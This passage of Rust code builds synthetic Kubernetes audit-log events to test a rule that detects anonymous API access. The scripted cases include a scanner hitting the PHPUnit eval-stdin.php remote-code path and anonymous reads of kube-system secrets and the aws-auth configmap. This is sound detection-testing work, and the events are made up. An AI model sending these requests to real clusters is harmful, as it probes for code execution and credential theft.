    for i in 0..440 {
        let ev = if rng.chance(0.05) {
            world.anonymous(&mut rng)
        } else {
            world.authenticated(&mut rng)
        };
        request(out, &mut rng, ev, 0.05);
        match i {
            40 => {
                // A scanner trying the PHPUnit RCE (CVE-2017-9841) against
                // the API endpoint: both stages are logged.
                let mut ev = world.base(&mut rng);
                ev.user = anonymous_user();
                ev.matches = true;
                ev.source_ips = vec!["8.216.81.10".into()];
                ev.user_agent = "Custom-AsyncHttpClient".into();
                ev.uri = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php".into();
                world.anonymous_outcome(&mut ev, "POST");
                request(out, &mut rng, ev, 1.0);
            }
            90 | 91 | 250 => {
                // kubelet-style health probes from inside the VPC: the
                // noise `--exclude 'userAgent=kube-probe/*'` silences.
                let mut ev = world.base(&mut rng);
                ev.user = anonymous_user();
                ev.matches = true;
                ev.source_ips = vec!["10.0.17.203".into()];
                ev.user_agent = "kube-probe/1.29".into();
                ev.uri = if i == 91 { "/readyz" } else { "/livez" }.into();
                ev.verb = "get".into();
                ev.annotations = allow(PUBLIC_INFO);
                out.event(&ev);
            }
            150 => {
                // Through a proxy: the client, then the proxy's address.
                let mut ev = world.base(&mut rng);
                ev.user = anonymous_user();
                ev.matches = true;
                ev.source_ips = vec!["45.148.10.95".into(), "10.0.48.12".into()];
                ev.user_agent = "python-requests/2.31.0".into();
                ev.uri = "/api/v1/namespaces/kube-system/secrets".into();
                world.anonymous_outcome(&mut ev, "GET");
                out.event(&ev);
            }
            200 => {
                // The one that matters: someone bound system:anonymous to a
                // role that can read secrets, and a scanner found it.
                let mut ev = world.base(&mut rng);
                ev.user = anonymous_user();
                ev.matches = true;
                ev.source_ips = vec!["185.220.101.34".into()];
                ev.user_agent = "kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f".into();
                ev.uri = "/api/v1/namespaces/kube-system/secrets?limit=500".into();
                ev.verb = "list".into();
                ev.obj = Some(ObjRef {
                    resource: "secrets".into(),
                    namespace: "kube-system".into(),
                    api_version: "v1".into(),
                    ..ObjRef::default()
                });
                ev.annotations = allow(
                    "RBAC: allowed by ClusterRoleBinding \"debug-anonymous\" of ClusterRole \"secret-reader\" to User \"system:anonymous\"",
                );
                out.event(&ev);
            }
            300 => {
                // Named system:anonymous but without system:unauthenticated
                // (a mis-built impersonation header): the rule must NOT match.
                let mut ev = world.base(&mut rng);
                ev.user = User {
                    username: "system:anonymous".into(),
                    groups: vec!["system:authenticated".into()],
                    ..User::default()
                };
                ev.source_ips = vec!["10.0.81.44".into()];
                ev.user_agent = "curl/8.5.0".into();
                ev.uri = "/api/v1/namespaces/default/pods".into();
                world.anonymous_outcome(&mut ev, "GET");
                out.event(&ev);
            }
            380 => {
                // CloudWatch Logs cuts events over 256 KB and appends
                // `[Truncated...]`: not JSON any more, so counted as malformed.
                let mut ev = world.base(&mut rng);
                ev.level = "RequestResponse";
                ev.user = anonymous_user();
                ev.matches = false; // unreadable, so never matched
                ev.source_ips = vec!["103.145.13.66".into()];
                ev.user_agent = "Go-http-client/1.1".into();
                ev.uri = "/api/v1/namespaces/kube-system/configmaps/aws-auth".into();
                world.anonymous_outcome(&mut ev, "GET");
                let mut line = String::new();
                ev.write(&mut line);
                let cut = line.find(r#""responseStatus""#).unwrap_or(line.len() / 2) + 60;
                out.raw(&format!("{}[Truncated...]", &line[..cut]));
            }
            _ => {}
        }
    }
}
